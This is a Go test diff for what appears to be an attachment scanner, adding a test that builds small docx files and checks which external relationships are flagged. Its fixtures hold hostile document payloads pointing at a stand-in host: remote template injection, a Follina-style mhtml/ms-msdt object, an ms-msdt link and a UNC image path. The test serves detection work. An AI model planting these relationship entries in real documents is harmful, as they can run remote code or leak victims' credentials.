@@ -226,3 +226,39 @@ func TestPPTVBA(t *testing.T) {
 	}
 	file(t, res, "deck.ppt/ExOleObjStg-1.ole/vba/Module1.vba")
 }
+
+// docxWithRels is a minimal docx whose document relationships are rels.
+func docxWithRels(t *testing.T, rels string) []byte {
+	files := map[string][]byte{
+		"[Content_Types].xml":          []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`),
+		"_rels/.rels":                  []byte(`<Relationships/>`),
+		"word/document.xml":            []byte(`<w:document/>`),
+		"word/_rels/settings.xml.rels": []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + rels + `</Relationships>`),
+	}
+	return mkZip(t, files, "[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/settings.xml.rels")
+}
+
+// TestRemoteTemplate: template injection, Follina's ms-msdt object and a
+// UNC image are reported; hyperlinks and links to other workbooks are not.
+func TestRemoteTemplate(t *testing.T) {
+	const rt = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+	for _, c := range []struct {
+		name, rels string
+		want       bool
+	}{
+		{"template injection", `<Relationship Id="rId1" Type="` + rt + `attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/>`, true},
+		{"follina", `<Relationship Id="rId9" Type="` + rt + `oleObject" Target="mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html" TargetMode="External"/>`, true},
+		{"ms-msdt hyperlink", `<Relationship Id="rId3" Type="` + rt + `hyperlink" Target="ms-msdt:/id PCWDiagnostic" TargetMode="External"/>`, true},
+		{"unc image", `<Relationship Id="rId4" Type="` + rt + `image" Target="\\198.51.100.7\share\a.png" TargetMode="External"/>`, true},
+		{"hyperlink", `<Relationship Id="rId5" Type="` + rt + `hyperlink" Target="https://www.example.co.jp/" TargetMode="External"/>`, false},
+		{"unc hyperlink", `<Relationship Id="rId6" Type="` + rt + `hyperlink" Target="file:///\\fileserver\共有\見積.xlsx" TargetMode="External"/>`, false},
+		{"workbook link", `<Relationship Id="rId7" Type="` + rt + `externalLinkPath" Target="file:///C:\Users\x\予算.xlsx" TargetMode="External"/>`, false},
+		{"internal template", `<Relationship Id="rId8" Type="` + rt + `attachedTemplate" Target="Normal.dotm"/>`, false},
+	} {
+		res := walk(t, mkMessage("x", attachment("a.docx", "application/octet-stream", docxWithRels(t, c.rels))), Options{})
+		f := file(t, res, "a.docx")
+		if got := f.has(reason.RemoteTemplate); got != c.want {
+			t.Errorf("%s: remote_template %v, want %v (%+v)", c.name, got, c.want, f.Findings)
+		}
+	}
+}
